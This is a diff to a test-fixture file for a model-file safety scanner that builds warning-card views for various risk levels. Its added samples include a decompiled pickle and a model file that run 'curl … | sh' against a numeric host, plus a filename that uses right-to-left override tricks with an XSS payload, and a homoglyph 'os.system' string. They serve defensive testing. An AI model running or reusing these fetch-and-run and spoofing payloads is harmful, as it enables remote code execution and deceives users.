@@ -1,6 +1,8 @@
 """Every state of the card as the traits of its widget, with views that `build_view` made; and one that a stranger wrote."""
 
 import dataclasses
+import time
+from unittest import mock
 
 from full_view import full_view
 
@@ -50,6 +52,7 @@ AFTER = (
 ONCE_AND_MORE = Standing(
     None, (Offer(Scope.DIGEST), Offer(Scope.COMMIT, "A branch or tag can move. Name the commit: revision=…"))
 )
+SECRETS = {"HF_TOKEN": "a value that no card shows", "HOME": "/"}
 LOAD = "torch.load(weights_only=False)"
 EXPLAINED = Explanation(
     (
@@ -93,17 +96,24 @@ def view(
         "7f3a91c2", 1.0, LoadRequest("torch.load", call, artifact.source, CallSite(None, None, 7, 3)), Outcome.WAITING
     )
     record = dataclasses.replace(record, level=level, artifact=artifact, report=made)
-    assessment = Assessment(level, made, ("no-unpinned-remote-code (/etc/modelguard/policy.toml:14)",), tuple(safer))
-    return build_view(record, dataclasses.replace(assessment, sought=True), explanation, standing)
+    assessment = Assessment(level, made, RULE if level is RiskLevel.FORBIDDEN else (), tuple(safer))
+    with (
+        mock.patch("jupyter_modelguard.approval.facts.user_name", return_value="ada"),
+        mock.patch.dict("os.environ", SECRETS, clear=True),
+    ):
+        return build_view(record, dataclasses.replace(assessment, sought=level.asks), explanation, standing)
 
 
-def remote(standing=ONCE_AND_MORE, content=AFTER):
+def remote(standing=ONCE_AND_MORE, content=AFTER, level=RiskLevel.RUNS_CODE, uses=()):
     files = (CodeFile("modeling_chat.py", "cd" * 32, content), CodeFile("norm.py", "ef" * 32, b"import torch\n" * 60))
     artifact = Artifact("chat-7b", f"hf:acme/chat-7b@{'a91d07c4' * 5}", "python-code", "cd" * 32, 9_000, files)
-    found = Finding("remote-code-capability", Severity.HIGH, "opens a network connection", "modeling_chat.py:3")
+    what, when = ("os.system: starts programs", 6) if uses else ("urllib.request.urlopen: opens network connections", 3)
+    title = f"{what}, as soon as it is imported"
+    found = Finding("remote-code-capability", Severity.HIGH, title, f"modeling_chat.py:{when}")
     call = 'AutoModelForCausalLM.from_pretrained("acme/chat-7b", trust_remote_code=True)'
     return view(
-        RiskLevel.RUNS_CODE,
+        level,
+        *uses,
         name="chat-7b",
         artifact=artifact,
         explanation=Explanation(),
@@ -114,6 +124,8 @@ def remote(standing=ONCE_AND_MORE, content=AFTER):
     )
 
 
+AT_A_COMMIT = Standing(None, (Offer(Scope.DIGEST), Offer(Scope.COMMIT)))
+ASKED = Standing(notes=(("Policy", "asks each time · look first (/etc/modelguard/policy.toml:3)"),))
 CHANGED = Standing(
     None,
     ONCE_AND_MORE.offers,
@@ -126,16 +138,60 @@ CHANGED = Standing(
     (("12" * 32, BEFORE),),
 )
 HOSTILE = "annual_report\u202egpj.exe\u2066_final<img src=x onerror=alert(1)>" + "_checked" * 20 + "\u200b.pt"
-SAFER = (SaferWay("Take only the weights", "state = torch.load(path, weights_only=True)"),)
+RULE = ("no-unpinned-remote-code", "/etc/modelguard/policy.toml:14", "Remote code must name a full commit.")
+WAY = SaferWay(
+    "Take only the weights",
+    'model = jupyter_modelguard.take_weights("yolo.pt")',
+    "Tried: 283 tensors come as a state dict. Nothing of the file runs.",
+    'model = torch.load("yolo.pt", weights_only=False)',
+    'import jupyter_modelguard\nmodel = jupyter_modelguard.take_weights("yolo.pt")',
+)
+SAFER = (WAY,)
+DOWNLOADED = Artifact("weights_final.pkl", "/home/ada/downloads/weights_final.pkl", "pickle", "cd" * 32, 1_258_291)
+COMMAND = Explanation(
+    (
+        (
+            "Rebuilt from the pickle, not run",
+            "weights_final.pkl",
+            (
+                (1, "from posix import system", True),
+                (2, "_var0 = system('curl -s http://203.0.113.9/x.sh | sh')", True),
+                (3, "result = _var0", False),
+            ),
+        ),
+    ),
+    (
+        TraceStep(0, "PROTO", "4", flagged=False, meaning="pickle protocol 4"),
+        TraceStep(2, "STACK_GLOBAL", "", flagged=True, meaning="look up posix.system"),
+        TraceStep(33, "SHORT_BINUNICODE", "curl -s http://203.0.113.9/x.sh | sh", flagged=False, meaning="push text"),
+        TraceStep(71, "REDUCE", "", flagged=True, meaning="call os.system"),
+    ),
+    (CallNode(0, "os.system", "('curl -s http://203.0.113.9/x.sh | sh')", 71, 1, flagged=True),),
+)
 RUNS = view(RiskLevel.RUNS_CODE, GETATTR, DETECTION, TENSOR, safer=SAFER)
 MISSED = ("archive/data.pkl: the stream ends at byte 81,920 of 2.1 MB", "archive/code/ (14 files): TorchScript")
 VIEWS = {
     "runs-code": RUNS,
     "runs-code-nothing-safer": view(RiskLevel.RUNS_CODE, GETATTR, DETECTION, TENSOR),
-    "dangerous": view(RiskLevel.DANGEROUS, SYSTEM, GETATTR, name="weights_final.pkl", standing=Standing()),
+    "dangerous": view(
+        RiskLevel.DANGEROUS,
+        SYSTEM,
+        artifact=DOWNLOADED,
+        explanation=COMMAND,
+        standing=Standing(),
+        call="pickle.load(f)",
+    ),
     "uninspected": view(RiskLevel.UNINSPECTED, name="adapter.bin", coverage=Coverage(3, 1, MISSED), explanation=Explanation()),
     "forbidden": view(RiskLevel.FORBIDDEN, GETATTR),
+    "nothing-found": view(RiskLevel.DATA_ONLY, TENSOR, standing=ASKED, explanation=Explanation()),
     "remote-code": remote(),
+    "remote-code-at-a-commit": remote(AT_A_COMMIT),
+    "remote-code-dangerous": remote(
+        Standing(),
+        BEFORE.replace(b"    pass", b"    os.system('curl -s http://203.0.113.9/x.sh | sh')"),
+        RiskLevel.DANGEROUS,
+        (SYSTEM,),
+    ),
     "changed": remote(CHANGED),
     "every-field": full_view(),
     "hostile": dataclasses.replace(
@@ -145,7 +201,9 @@ VIEWS = {
         confirm=("\u043es.syst\u0435m",),
     ),
 }
-ALLOWED = Decision(allow=True, by="ada", transport="card", reason="I made this file", at=1.0)
+ALLOWED = Decision(
+    allow=True, by="ada", transport="card", reason="I made this file", at=time.mktime((2026, 11, 22, 14, 2, 0, 0, 0, -1))
+)
 DENIED = dataclasses.replace(ALLOWED, allow=False, reason="kept blocked")
 
 
